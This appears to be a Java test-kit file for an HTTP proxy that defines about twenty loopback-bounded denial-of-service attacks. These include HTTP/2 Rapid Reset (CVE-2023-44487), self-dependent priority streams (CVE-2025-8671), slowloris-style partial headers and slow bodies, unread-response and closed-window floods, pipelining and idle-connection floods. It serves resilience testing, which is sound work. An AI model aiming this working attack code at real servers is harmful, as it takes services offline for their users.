package io.sluice.testkit;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;

/**
 * What clients do who want a proxy to serve nobody else. Each is bounded by the time and the number
 * of connections that its {@link Camp} gives it, and is sent to loopback alone.
 *
 * <p>The paths are those of the siege's server: {@code /ok} answers at once, {@code /big} with ten
 * million bytes, {@code /silent} never, and reads nothing.
 */
public enum Assault {
  /** Data for a tunnel that nobody has agreed to, in frames of a byte (A1). */
  EARLY_TUNNEL_DATA {
    @Override
    void lead(Camp camp) {
      camp.attackers(8, socket -> tunnel(camp, socket, "/ok"));
      camp.attackers(8, socket -> tunnel(camp, socket, "/silent"));
    }

    private void tunnel(Camp camp, Socket socket, String path) throws IOException {
      camp.beginHttp2(socket, 0);
      byte[] head =
          Camp.section(
              ":method",
              "CONNECT",
              ":protocol",
              "websocket",
              ":scheme",
              "http",
              ":path",
              path,
              ":authority",
              "a");
      camp.send(socket, Camp.frame(HEADERS, END_HEADERS, 1, head));
      byte[] data = Camp.times(5_000, Camp.frame(DATA, 0, 1, (byte) 'x'));
      Thread reader = Thread.ofVirtual().start(() -> drain(camp, socket));
      while (!camp.isOver() && reader.isAlive()) {
        camp.send(socket, data);
      }
    }
  },

  /** Bodies in chunks of a byte that do not end (A2). */
  SMALL_CHUNKS {
    @Override
    void lead(Camp camp) {
      byte[] chunks =
          Camp.times(65_000, "1\r\nx\r\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII));
      for (String path : new String[] {"/ok", "/silent"}) {
        camp.attackers(
            200,
            socket -> {
              camp.send(
                  socket,
                  "POST " + path + " HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n");
              camp.send(socket, chunks);
              camp.holdReading(socket);
            });
      }
    }
  },

  /** The same in HTTP/2, on many streams whose server reads nothing. */
  SMALL_DATA_FRAMES {
    @Override
    void lead(Camp camp) {
      camp.attackers(
          50,
          socket -> {
            camp.beginHttp2(socket, 65_535);
            Thread reader = Thread.ofVirtual().start(() -> drain(camp, socket));
            for (int stream = 1; stream < 200 && !camp.isOver(); stream += 2) {
              byte[] head =
                  Camp.section(
                      ":method", "POST", ":scheme", "http", ":path", "/silent", ":authority", "a");
              camp.send(socket, Camp.frame(HEADERS, END_HEADERS, stream, head));
              camp.send(socket, Camp.times(10_000, Camp.frame(DATA, 0, stream, (byte) 'x')));
            }
            while (!camp.isOver() && reader.isAlive()) {
              camp.rest(100);
            }
          });
    }
  },

  /** Large answers that nobody reads (A3). */
  UNREAD_ANSWERS {
    @Override
    void lead(Camp camp) {
      camp.attackers(
          2_000,
          socket -> {
            camp.send(socket, "GET /big HTTP/1.1\r\nHost: a\r\n\r\n");
            camp.hold(socket);
          });
    }
  },

  /** The same in HTTP/2: windows that never open. */
  SHUT_WINDOWS {
    @Override
    void lead(Camp camp) {
      camp.attackers(
          200,
          socket -> {
            camp.beginHttp2(socket, 0);
            ByteArrayOutputStream heads = new ByteArrayOutputStream();
            for (int stream = 1; stream < 200; stream += 2) {
              heads.writeBytes(Camp.frame(HEADERS, END_HEADERS | END_STREAM, stream, get("/big")));
            }
            camp.send(socket, heads.toByteArray());
            camp.holdReading(socket);
          });
    }
  },

  /** More requests to a server that does not answer than there may be under way. */
  SILENT_SERVER {
    @Override
    void lead(Camp camp) {
      camp.attackers(
          200,
          socket -> {
            camp.beginHttp2(socket, 65_535);
            ByteArrayOutputStream heads = new ByteArrayOutputStream();
            for (int stream = 1; stream < 200; stream += 2) {
              heads.writeBytes(
                  Camp.frame(HEADERS, END_HEADERS | END_STREAM, stream, get("/silent")));
            }
            camp.send(socket, heads.toByteArray());
            drain(camp, socket);
          });
    }
  },

  /** Streams that the client opens and resets at once (CVE-2023-44487). */
  RAPID_RESET {
    @Override
    void lead(Camp camp) {
      resets(
          camp,
          stream -> Camp.frame(RST_STREAM, 0, stream, (byte) 0, (byte) 0, (byte) 0, (byte) 8),
          true);
    }
  },

  /** A stream that is made to depend on itself (A4, CVE-2025-8671). */
  SELF_DEPENDENT_STREAMS {
    @Override
    void lead(Camp camp) {
      resets(
          camp,
          stream ->
              Camp.frame(
                  PRIORITY,
                  0,
                  stream,
                  (byte) (stream >>> 24),
                  (byte) (stream >>> 16),
                  (byte) (stream >>> 8),
                  (byte) stream,
                  (byte) 1),
          true);
    }
  },

  /** A second head after the end of the request (A4). */
  SECOND_HEADS {
    @Override
    void lead(Camp camp) {
      resets(
          camp,
          stream -> Camp.frame(HEADERS, END_HEADERS | END_STREAM, stream, get("/silent")),
          true);
    }
  },

  /** Data after the end of the request. */
  DATA_AFTER_THE_END {
    @Override
    void lead(Camp camp) {
      resets(camp, stream -> Camp.frame(DATA, 0, stream, (byte) 'x'), true);
    }
  },

  /** A window that is opened by nothing. */
  EMPTY_WINDOW_UPDATES {
    @Override
    void lead(Camp camp) {
      resets(
          camp,
          stream -> Camp.frame(WINDOW_UPDATE, 0, stream, (byte) 0, (byte) 0, (byte) 0, (byte) 0),
          true);
    }
  },

  /** A window that is opened beyond what there is. */
  HUGE_WINDOW_UPDATES {
    @Override
    void lead(Camp camp) {
      resets(
          camp,
          stream ->
              Camp.frame(
                  WINDOW_UPDATE, 0, stream, (byte) 0x7f, (byte) 0xff, (byte) 0xff, (byte) 0xff),
          true);
    }
  },

  /** More body than the head has said. */
  LONGER_BODIES {
    @Override
    void lead(Camp camp) {
      resets(
          camp,
          stream ->
              Camp.frame(
                  DATA,
                  END_STREAM,
                  stream,
                  "far too much".getBytes(java.nio.charset.StandardCharsets.US_ASCII)),
          false);
    }
  },

  /** A priority of the wrong length. */
  SHORT_PRIORITIES {
    @Override
    void lead(Camp camp) {
      resets(camp, stream -> Camp.frame(PRIORITY, 0, stream, (byte) 0), true);
    }
  },

  /** Another long host each time, where a limiter goes by the host (A5). */
  LONG_SOURCES {
    @Override
    void lead(Camp camp) {
      long[] next = {0};
      camp.attackers(
          4,
          socket -> {
            Thread reader = Thread.ofVirtual().start(() -> drain(camp, socket));
            while (!camp.isOver() && reader.isAlive()) {
              String value = Long.toString(++next[0]) + "x".repeat(28_000);
              camp.send(
                  socket, "GET /limited HTTP/1.1\r\nHost: a\r\nX-Source: " + value + "\r\n\r\n");
            }
          });
    }
  },

  /** Large heads that do not end. */
  HALF_HEADS {
    @Override
    void lead(Camp camp) {
      String half = "GET /ok HTTP/1.1\r\nHost: a\r\nX: " + "x".repeat(30_000);
      camp.attackers(
          3_000,
          socket -> {
            camp.send(socket, half);
            camp.holdReading(socket);
          });
    }
  },

  /** The same in HTTP/2: a head that lacks its last frame (A22). */
  HALF_HEADER_SECTIONS {
    @Override
    void lead(Camp camp) {
      byte[] half = new byte[16_000];
      camp.attackers(
          1_000,
          socket -> {
            camp.beginHttp2(socket, 65_535);
            camp.send(socket, Camp.frame(HEADERS, 0, 1, half));
            camp.holdReading(socket);
          });
    }
  },

  /** Large heads of requests that are never answered. */
  LARGE_HEADS {
    @Override
    void lead(Camp camp) {
      camp.attackers(
          2_000,
          socket -> {
            camp.send(
                socket, "GET /silent HTTP/1.1\r\nHost: a\r\nX: " + "x".repeat(30_000) + "\r\n\r\n");
            camp.holdReading(socket);
          });
    }
  },

  /** Requests one after the other without reading an answer. */
  PIPELINES {
    @Override
    void lead(Camp camp) {
      byte[] many =
          Camp.times(
              2_000,
              "GET /ok HTTP/1.1\r\nHost: a\r\n\r\n"
                  .getBytes(java.nio.charset.StandardCharsets.US_ASCII));
      camp.attackers(
          500,
          socket -> {
            while (!camp.isOver()) {
              camp.send(socket, many);
            }
          });
      camp.attackers(
          500,
          socket -> {
            camp.send(socket, "GET /silent HTTP/1.1\r\nHost: a\r\n\r\n");
            camp.send(socket, many);
            camp.holdReading(socket);
          });
    }
  },

  /** Connections that say nothing. */
  IDLE_CONNECTIONS {
    @Override
    void lead(Camp camp) {
      camp.attackers(6_000, camp::holdReading);
    }
  },

  /** Bodies that come a few bytes at a time. */
  SLOW_BODIES {
    @Override
    void lead(Camp camp) {
      camp.attackers(
          3_000,
          socket -> {
            camp.send(socket, "POST /ok HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n");
            while (!camp.isOver()) {
              camp.send(socket, "x".repeat(150));
              camp.rest(1_000);
            }
          });
    }
  };

  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int PRIORITY = 2;
  private static final int RST_STREAM = 3;
  private static final int WINDOW_UPDATE = 8;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;

  /** Begins; the attackers go on by themselves until the camp is closed. */
  abstract void lead(Camp camp);

  /** How a table calls it. */
  public String title() {
    return name().toLowerCase(java.util.Locale.ROOT).replace('_', ' ');
  }

  private interface Provocation {
    byte[] of(int stream);
  }

  /** Streams by fifties, each with a frame that makes the other side reset it. */
  private static void resets(Camp camp, Provocation provocation, boolean ends) {
    camp.attackers(
        4,
        socket -> {
          camp.beginHttp2(socket, 65_535);
          Thread reader = Thread.ofVirtual().start(() -> drain(camp, socket));
          for (int stream = 1; !camp.isOver() && reader.isAlive(); ) {
            ByteArrayOutputStream frames = new ByteArrayOutputStream();
            for (int i = 0; i < 50; i++, stream += 2) {
              byte[] head = ends ? get("/silent") : post();
              frames.writeBytes(
                  Camp.frame(HEADERS, END_HEADERS | (ends ? END_STREAM : 0), stream, head));
              frames.writeBytes(provocation.of(stream));
            }
            camp.send(socket, frames.toByteArray());
          }
        });
  }

  private static byte[] get(String path) {
    return Camp.section(":method", "GET", ":scheme", "http", ":path", path, ":authority", "a");
  }

  private static byte[] post() {
    return Camp.section(
        ":method",
        "POST",
        ":scheme",
        "http",
        ":path",
        "/silent",
        ":authority",
        "a",
        "content-length",
        "1");
  }

  private static void drain(Camp camp, Socket socket) {
    try {
      camp.holdReading(socket);
    } catch (IOException thrownOut) {
      // It is what the attacker is told by.
    }
  }
}
